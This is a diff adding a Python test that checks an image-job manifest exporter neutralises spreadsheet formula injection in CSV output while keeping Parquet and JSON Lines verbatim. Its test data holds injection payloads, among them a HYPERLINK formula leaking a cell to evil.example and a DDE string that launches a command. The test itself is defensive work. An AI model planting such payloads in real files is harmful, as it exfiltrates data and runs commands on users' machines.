@@ -146,3 +146,31 @@ def test_a_manifest_lists_the_jobs_images_once(tmp_path: Path) -> None:
     rows = list(manifest_rows(store, job.job))
     assert [(r["status"], r["bytes"]) for r in rows] == [("done", 9), ("missing", None), ("missing", None)]
     assert listed.count(spec.images_prefix(job.job)) == 1, listed
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)",
+            "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]
+
+
+def test_a_csv_manifest_cell_that_a_spreadsheet_would_run_as_a_formula_opens_as_text(tmp_path: Path) -> None:
+    store = LocalStore(tmp_path / "store")
+    lines = [json.dumps({"prompt": text, "negative_prompt": text}) for text in FORMULAS]
+    lines.append(json.dumps({"prompt": "a fox = a dog - a cat", "negative_prompt": "'quoted' already"}))
+    job = JobSpec(job="j-csv", params=RenderParams(model="tiny"), total=len(lines), shard_size=4, batch_size=2,
+                  prompts_key=spec.source_key("j-csv", "jsonl", False))
+    source = tmp_path / "p.jsonl"
+    source.write_text("\n".join(lines) + "\n")
+    store.put_file(job.prompts_key, source)
+    store.put(spec.spec_key(job.job), job.to_json().encode())
+    for name in ("m.csv", "m.parquet", "m.jsonl"):
+        write_manifest(manifest_rows(store, job.job), tmp_path / name)
+    with open(tmp_path / "m.csv", newline="", encoding="utf-8") as f:
+        rows = list(csv.DictReader(f))
+    expected = [f"'{text}" for text in FORMULAS] + ["a fox = a dog - a cat"]
+    assert [r["prompt"] for r in rows] == expected
+    assert [r["negative_prompt"] for r in rows] == [*expected[:-1], "'quoted' already"]
+    assert rows[0]["index"] == "0" and rows[0]["status"] == "missing"  # numbers and words untouched
+    # Parquet and JSON Lines are data, never evaluated: the prompts exactly as submitted.
+    plain = [*FORMULAS, "a fox = a dog - a cat"]
+    assert [r["prompt"] for r in pq.read_table(tmp_path / "m.parquet").to_pylist()] == plain
+    assert [json.loads(line)["prompt"] for line in (tmp_path / "m.jsonl").read_text().splitlines()] == plain
